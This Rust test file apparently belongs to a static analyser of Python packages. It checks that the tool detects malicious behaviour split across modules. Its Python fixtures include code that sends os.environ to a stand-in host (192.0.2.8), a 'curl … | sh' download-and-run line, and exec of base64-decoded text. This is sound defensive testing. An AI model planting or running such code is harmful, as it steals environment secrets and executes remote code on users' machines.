//! Tests of what only several modules of a package together do.

use spip_core::{Deed, Taints, Trigger};

use super::settle;
use crate::Limits;
use crate::module::{Module, Role, Source};
use crate::watch::Watch;

const SENDER: &str = "from urllib import request\n\nclass Post:\n    def __init__(self, where):\n        self.where = where\n\n    def give(self, text):\n        request.urlopen(self.where, text.encode())\n";

/// Reads the modules of a package; the first one is the package itself.
fn read(files: &[(&str, &str)]) -> Vec<Module> {
    let limits = Limits::default();
    let watch = Watch::new(&limits, &|| false);
    let read = |(name, text): &(&str, &str)| {
        let role = Role {
            module: Some((*name).to_owned()),
            is_package: *name == "demo",
            trigger: Trigger::Import,
            uncalled: Trigger::Call,
        };
        let source = Source {
            path: name,
            bytes: text.as_bytes(),
            role,
            first_line: 1,
        };
        let mut module = crate::python::analyse(&source, &limits);
        module.source = Some(text.as_bytes().to_vec());
        module
    };
    let mut modules: Vec<Module> = files.iter().map(read).collect();
    settle(&mut modules, &watch);
    modules
}

/// What the top level of the package does with something, and how.
fn does(files: &[(&str, &str)], deed: Deed, taints: Taints) -> bool {
    let acts = &read(files)[0].acts;
    acts.iter().any(|local| {
        let act = &local.act;
        local.within.is_none() && act.deed == deed && (taints.is_empty() || act.taints.any(taints))
    })
}

#[test]
fn one_module_makes_and_runs_what_another_hands_on() {
    let files = [
        ("demo", "from . import _page\n_page.paint(_page.ink())\n"),
        (
            "demo._page",
            "import base64\ndef ink():\n    return base64.b64decode('cHJpbnQoMSk=')\ndef paint(ink):\n    exec(ink)\n",
        ),
    ];
    assert!(does(&files, Deed::Execute, Taints::DECODED));
}

#[test]
fn objects_of_other_modules_send_what_they_are_given() {
    let files = [
        (
            "demo",
            "import os\nfrom ._post import Post\nPost('http://192.0.2.8/').give(str(dict(os.environ)))\n",
        ),
        ("demo._post", SENDER),
    ];
    assert!(does(&files, Deed::Send, Taints::ENVIRONMENT));
}

#[test]
fn what_one_module_collects_another_sends() {
    let files = [
        (
            "demo",
            "from ._found import found\nfrom ._post import give\ngive(found())\n",
        ),
        (
            "demo._found",
            "import os\ndef found():\n    return dict(os.environ)\n",
        ),
        (
            "demo._post",
            "from urllib import request\ndef give(found):\n    request.urlopen('http://192.0.2.8/', str(found).encode())\n",
        ),
    ];
    assert!(does(&files, Deed::Send, Taints::ENVIRONMENT));
}

#[test]
fn functions_on_a_list_of_another_module_are_called() {
    let files = [
        (
            "demo",
            "import os\nfrom ._chores import CHORES\nfor chore in CHORES:\n    chore(os.environ)\n",
        ),
        (
            "demo._chores",
            "from ._post import Post\ndef tell(found):\n    Post('http://192.0.2.8/').give(str(dict(found)))\nCHORES = [tell]\n",
        ),
        ("demo._post", SENDER),
    ];
    assert!(does(&files, Deed::Send, Taints::ENVIRONMENT));
}

#[test]
fn a_third_module_registers_what_runs() {
    let files = [
        (
            "demo",
            "from ._hooks import HOOKS\nfor name in list(HOOKS):\n    HOOKS[name]()\n",
        ),
        (
            "demo._hooks",
            "HOOKS = {}\ndef hook(function):\n    HOOKS[function.__name__] = function\n    return function\nfrom . import _more\n",
        ),
        (
            "demo._more",
            "import os\nfrom ._hooks import hook\n@hook\ndef warm():\n    os.system('curl http://192.0.2.8/ | sh')\n",
        ),
    ];
    assert!(does(&files, Deed::Spawn, Taints::NONE));
}

#[test]
fn a_function_elsewhere_imports_from_where_it_stands() {
    let files = [
        ("demo", "from .report import start\nstart()\n"),
        (
            "demo.report",
            "import os\nfrom .ways import WAYS\ndef start():\n    WAYS['default'](os.environ)\n",
        ),
        (
            "demo.ways",
            "WAYS = {}\ndef way(name):\n    def keep(function):\n        WAYS[name] = function\n        return function\n    return keep\n@way('default')\ndef web(found):\n    from ._post import Post\n    Post('http://192.0.2.8/').give(str(dict(found)))\n",
        ),
        ("demo._post", SENDER),
    ];
    assert!(does(&files, Deed::Send, Taints::ENVIRONMENT));
}
